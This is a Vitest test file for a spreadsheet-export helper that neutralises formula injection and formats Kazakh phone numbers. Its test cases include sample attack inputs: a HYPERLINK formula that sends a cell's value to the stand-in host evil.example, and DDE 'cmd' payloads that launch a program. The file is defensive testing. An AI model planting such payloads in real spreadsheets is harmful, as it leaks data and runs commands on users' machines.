import { describe, expect, it } from 'vitest';
import { formatPhone } from '../contact/phone.ts';
import { isFormulaLike, SPREADSHEET_PHONE_FORMAT, spreadsheetPhone, spreadsheetText } from './spreadsheet-text.ts';

describe('spreadsheet text (formula injection)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', '\'=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1,2)', "'@SUM(1,2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\n=1+1', "'\n=1+1"],
    ['\u0001=1+1', "'\u0001=1+1"],
    ['  =1+1', "'  =1+1"],
    ['\u00a0=1+1', "'\u00a0=1+1"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(1)', "'＠SUM(1)"],
    ['-', "'-"],
    ['+7 (701) 555 44 33', "'+7 (701) 555 44 33"],
  ])('neutralises %j', (text, written) => {
    expect(isFormulaLike(text)).toBe(true);
    expect(spreadsheetText(text)).toBe(written);
  });

  it.each([
    ['Ахметов Ерлан'],
    ['ТОО «Жеткіз»'],
    ['Сәрсенова Айгерім'],
    ['a=1'],
    ['1+1'],
    ['JZ-00000001'],
    ["'=1+1"],
    [''],
    ['Алматы — Қарағанды'],
    ['e-mail@jetkiz.kz'],
  ])('leaves %j as it is', (text) => {
    expect(isFormulaLike(text)).toBe(false);
    expect(spreadsheetText(text)).toBe(text);
  });
});

describe('a phone in a spreadsheet', () => {
  it.each([
    ['77015554433', 77015554433],
    ['77771234567', 77771234567],
    // Anything else is text, neutralised as any text.
    ['+7 (701) 555 44 33', "'+7 (701) 555 44 33"],
    ['7701555443', '7701555443'],
    ['770155544330', '770155544330'],
    ['=1+1', "'=1+1"],
    ['', ''],
  ])('writes %j as %j', (phone, written) => {
    expect(spreadsheetPhone(phone)).toBe(written);
  });

  it('shows a number as the formatted phone: eleven digit places, the country code first', () => {
    expect(SPREADSHEET_PHONE_FORMAT.replace(/[^0]/g, '')).toHaveLength(11);
    // The format's digits filled from the right read as formatPhone writes the number.
    let digits = String(77015554433);
    const shown = [...SPREADSHEET_PHONE_FORMAT]
      .reverse()
      .map((c) => {
        if (c !== '0') return c;
        const d = digits.at(-1) ?? '';
        digits = digits.slice(0, -1);
        return d;
      })
      .reverse()
      .join('');
    expect(shown).toBe(formatPhone('77015554433'));
  });
});
